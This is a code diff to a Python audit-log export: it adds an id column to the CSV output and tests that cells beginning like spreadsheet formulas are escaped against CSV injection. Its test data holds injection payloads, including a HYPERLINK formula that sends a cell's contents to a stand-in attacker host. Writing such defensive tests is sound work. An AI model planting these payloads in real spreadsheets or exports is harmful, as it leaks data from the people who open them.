@@ -80,10 +80,10 @@ def _as_before(store: Store, since: datetime | None, until: datetime | None, for
         out.writelines(json.dumps(one, default=str, ensure_ascii=False) + "\n" for one in shown)
         return out.getvalue()
     writer = csv.writer(out)
-    writer.writerow(["time", "event", "actor", "source", "target", "detail"])
-    for one in shown:
+    writer.writerow(["time", "event", "actor", "source", "target", "detail", "id"])
+    for one in shown:  # none of the fixture's cells starts like a formula: each is printed as it is
         writer.writerow([one["time"], one["event"], one["actor"] or "", one["source"] or "", one["target"] or "",
-                         json.dumps(one["detail"], default=str, ensure_ascii=False)])
+                         json.dumps(one["detail"], default=str, ensure_ascii=False), one["id"]])
     return out.getvalue()
 
 
@@ -166,3 +166,44 @@ def test_the_web_audit_filter_reads_a_utc_offset_as_the_instant_it_names(logged:
     in_utc = shown("2026-01-01T01:00", "2026-01-01T02:30")
     assert len(in_utc) > 60
     assert shown("2026-01-01T03:00+02:00", "2026-01-01T01:30:00-01:00") == in_utc
+
+
+#: Values a stranger chooses (a failed login's user name, an API caller's `source_channel`) that a spreadsheet
+#: would run as a formula, each with a cell start OWASP names.
+HOSTILE = ['=HYPERLINK("http://evil.example/?x="&B2,"x")', "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1",
+           "\n=1+1"]
+
+
+def test_a_csv_cell_a_stranger_wrote_is_text_not_a_formula(logged: Store) -> None:
+    """An auditor opens the CSV export in Excel or LibreOffice: a cell starting with `=`, `+`, `-`, `@`, a tab
+    or a line break ran as a formula (CSV injection, OWASP). Each such cell of every text column now starts
+    with `'`, the value kept after it; other cells, and the numeric id, are printed as they are."""
+    for n, hostile in enumerate(HOSTILE):
+        logged.audit_add("web.login.failed", hostile, hostile, hostile, {"case": n})
+    with logged.engine.begin() as conn:  # a detail whose JSON starts like a formula: a negative number
+        conn.execute(sa.insert(audit), [{"timestamp": BASE, "event": "=cmd", "actor": "ann", "source": "web",
+                                         "target": None, "detail": -7}])
+    rows = list(csv.reader(io.StringIO(_export(form="csv"), newline="")))
+    header, body = rows[0], rows[1:]
+    by_case = {json.loads(row[5]).get("case"): row for row in body if row[5].startswith("{")}
+    for n, hostile in enumerate(HOSTILE):
+        time, event, actor, source, target, detail = by_case[n][:6]
+        assert (actor, source, target) == (f"'{hostile}",) * 3, by_case[n]
+        assert event == "web.login.failed" and not time.startswith("'") and detail == f'{{"case": {n}}}'
+    assert body[-1][1:6] == ["'=cmd", "ann", "web", "", "'-7"]
+    ordinary = body[1]  # the fixture's own rows: printed as they were
+    assert ordinary[2] == "usér1" and ordinary[3] == "slack:C1" and ordinary[5].startswith('{"n": 1,')
+    assert header.index("actor") == 2
+
+
+def test_the_csv_has_the_ids_of_the_json_export_in_a_last_column(logged: Store) -> None:
+    """Every audit entry carries its `id` (a SIEM drops a re-sent event by it), but the CSV had no id column.
+    It is a new last column: the six before it are where they were, for readers that go by position."""
+    rows = list(csv.reader(io.StringIO(_export(form="csv"), newline="")))
+    jsonl = [json.loads(text) for text in _lines(_export())]
+    assert rows[0] == ["time", "event", "actor", "source", "target", "detail", "id"]
+    assert [int(row[6]) for row in rows[1:]] == [one["id"] for one in jsonl]
+    assert len(set(row[6] for row in rows[1:])) == len(jsonl) == 300
+    assert [row[:6] for row in rows[1:]] == [[one["time"], one["event"], one["actor"] or "", one["source"] or "",
+                                              one["target"] or "", json.dumps(one["detail"], ensure_ascii=False)]
+                                             for one in jsonl]
